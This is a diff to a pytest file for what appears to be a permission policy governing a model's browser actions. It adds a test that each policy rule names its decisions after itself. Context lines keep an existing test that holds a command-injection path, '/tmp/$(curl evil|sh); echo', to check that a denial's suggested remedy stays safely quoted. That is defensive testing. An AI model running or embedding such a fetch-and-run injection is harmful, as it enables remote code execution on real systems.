@@ -1,5 +1,7 @@
 """The rules, over plain facts."""
 
+import ast
+import inspect
 import shlex
 from dataclasses import replace
 from pathlib import Path
@@ -7,7 +9,9 @@ from pathlib import Path
 import pytest
 
 from handrail.browser.types.facts import ElementFacts
+from handrail.messages import rule_sentences
 from handrail.policy import Allow, CallRequest, Deny, DialogFacts, Facts, FileFacts, Permissions, decide
+from handrail.policy.decide import RULES, Rule
 from handrail.trust import External
 
 CLICK = CallRequest("model", "ask", "click", "change", "click", offered_in_ask=False)
@@ -113,3 +117,18 @@ def test_a_remedy_is_one_word_of_a_shell_whatever_path_a_model_composed(tmp_path
     decision = decide(CallRequest("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
     assert isinstance(decision, Deny)
     assert shlex.split(decision.remedy) == ["--upload-dir", str(Path("/tmp/$(curl evil|sh); echo"))]
+
+
+@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
+def test_a_rule_answers_by_its_own_name_by_which_a_person_finds_what_it_says(rule: Rule) -> None:
+    code = ast.parse(inspect.getsource(rule))
+    names = [one.args[0] for one in ast.walk(code) if isinstance(one, ast.Call) and _makes_decision(one)]
+    names += [
+        one.value for one in ast.walk(code) if isinstance(one, ast.Assign) and ast.unparse(one.targets[0]) == "rule"
+    ]
+    assert {one.value for one in names if isinstance(one, ast.Constant)} <= {rule.__name__}
+    assert rule.__name__ in rule_sentences()
+
+
+def _makes_decision(call: ast.Call) -> bool:
+    return ast.unparse(call.func) in ("Allow", "Ask", "Deny", "ask_for_grant")
